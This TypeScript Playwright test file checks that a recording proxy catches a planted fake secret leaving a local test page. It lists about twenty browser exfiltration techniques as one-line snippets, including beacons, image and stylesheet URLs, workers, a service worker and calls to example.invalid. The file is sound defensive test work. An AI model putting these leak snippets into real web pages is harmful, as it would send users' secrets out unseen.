// Negative controls of promise 1: a page that leaks on every way out of a browser; each leak must
// be recorded, bodies and all, and found by the search.
import { createServer } from "node:http";
import type { Server } from "node:http";
import type { AddressInfo } from "node:net";

import { expect, test as base } from "@playwright/test";

import { password, searchForSecrets } from "../support/secrets.ts";
import { Wire } from "../support/wire.ts";

const SECRET = "secreto-plantado-7f3a";
const secrets = [password("the planted secret", SECRET)];

/** Code that leaks, by the way it takes. `L` is the secret. */
const WAYS: Record<string, string> = {
  "a body": `fetch("/out", { method: "POST", body: L })`,
  "an address": `fetch("/out?" + encodeURIComponent(L))`,
  "a header": `fetch("/out", { headers: { "x-note": btoa(L) } })`,
  "a form": `(() => { const f = new FormData(); f.set("a", L); return fetch("/out", { method: "POST", body: f }); })()`,
  "a file": `fetch("/out", { method: "POST", body: new Blob([new TextEncoder().encode(L)]) })`,
  "a beacon": `navigator.sendBeacon("/out", L)`,
  "a picture": `Object.assign(new Image(), { src: "/out?" + L })`,
  "a style sheet": `document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "/out?" + L }))`,
  "an old-fashioned request": `(() => { const x = new XMLHttpRequest(); x.open("POST", "/out"); x.send(L); })()`,
  "an import": `import("/out?" + L).catch(() => {})`,
  "an event stream": `new EventSource("/out?" + L)`,
  "a cookie": `(() => { document.cookie = "a=" + encodeURIComponent(L); return fetch("/out"); })()`,
  "a keepalive request": `fetch("/out", { method: "POST", body: L, keepalive: true })`,
  "a worker": `new Worker("/leak-worker.js").postMessage(L)`,
  "a shared worker": `new SharedWorker("/leak-shared.js").port.postMessage(L)`,
  "another origin": `fetch("http://[::1]:47999/out", { method: "POST", mode: "no-cors", body: L }).catch(() => {})`,
  "another site": `fetch("http://example.invalid/out?" + L, { mode: "no-cors" }).catch(() => {})`,
};

/** Each answer of these waits until the test releases it. */
const HELD = "/held";

const FILES: Record<string, [type: string, content: string]> = {
  "/": ["text/html", "<!doctype html><title>leaks</title>"],
  "/leak-worker.js": [
    "text/javascript",
    `onmessage = (e) => fetch("/out", { method: "POST", body: e.data });`,
  ],
  "/leak-shared.js": [
    "text/javascript",
    `onconnect = (c) => { c.ports[0].onmessage = (e) => fetch("/out", { method: "POST", body: e.data }); };`,
  ],
  "/leak-service.js": [
    "text/javascript",
    `onmessage = (e) => e.waitUntil(fetch("/out", { method: "POST", body: e.data }));`,
  ],
};

const test = base.extend<{ wire: Wire; site: string; held: (() => void)[] }>({
  held: async ({}, use) => use([]),
  wire: async ({}, use) => {
    const wire = await Wire.start();
    await use(wire);
    await wire.stop();
  },
  proxy: async ({ wire }, use) => use({ server: wire.address }),
  site: async ({ held }, use) => {
    const server: Server = createServer((asked, answer) => {
      const [type, content] = FILES[asked.url ?? ""] ?? ["text/plain", ""];
      asked.resume();
      const send = () => answer.writeHead(200, { "content-type": type, "cache-control": "no-store" }).end(content);
      if (asked.url?.startsWith(HELD)) {
        held.push(send);
      } else {
        send();
      }
    });
    await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
    await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    server.closeAllConnections();
    await new Promise<void>((closed) => server.close(() => closed()));
  },
});

function leaks(wire: Wire): string[] {
  return wire.left.flatMap((left) => searchForSecrets(left.bytes, secrets).map((leak) => leak.form));
}

for (const [way, code] of Object.entries(WAYS)) {
  test(`a leak by ${way} is caught`, async ({ page, site, wire }) => {
    await page.goto(`${site}/`);
    expect(leaks(wire)).toEqual([]);
    await page.evaluate(`{ const L = ${JSON.stringify(SECRET)}; void ${code}; }`);
    await expect.poll(() => leaks(wire)).not.toEqual([]);
  });
}

test("a leak by a service worker is caught", async ({ page, site, wire }) => {
  await page.goto(`${site}/`);
  await page.evaluate(async (secret) => {
    await navigator.serviceWorker.register("/leak-service.js");
    const { active } = await navigator.serviceWorker.ready;
    active?.postMessage(secret);
  }, SECRET);
  await expect.poll(() => leaks(wire)).not.toEqual([]);
});

test("a WebSocket, which would hide what it carries, is recorded and refused", async ({ page, site, wire }) => {
  await page.goto(`${site}/`);
  await page.evaluate((address) => void new WebSocket(address), `${site.replace("http", "ws")}/out`);
  await expect.poll(() => wire.left.map((left) => left.method)).toContain("CONNECT");
});

test("a page that leaks nothing leaves no trace of the secret, and its requests are there", async ({
  page,
  site,
  wire,
}) => {
  await page.goto(`${site}/`);
  await page.evaluate(() => fetch("/out", { method: "POST", body: "nada" }));
  const posted = wire.left.filter((left) => left.method === "POST");
  expect(posted.map((left) => left.body.toString())).toEqual(["nada"]);
  expect(leaks(wire)).toEqual([]);
});

test("a page is settled once its last answer asks for nothing more", async ({ page, site, wire, held }) => {
  await page.goto(`${site}/`);
  await page.evaluate((first) => void fetch(first).then(() => fetch(`${first}/second`)), HELD);
  let settled = false;
  const waiting = wire.settled(page).then(() => (settled = true));
  for (const count of [1, 2]) {
    await expect.poll(() => held.length).toBe(count);
    expect(settled, `answer ${count} is still to come`).toBe(false);
    held[count - 1]?.();
  }
  await waiting;
  expect(wire.left.map((left) => left.url.pathname).filter((path) => path.startsWith(HELD))).toEqual([
    HELD,
    `${HELD}/second`,
  ]);
});
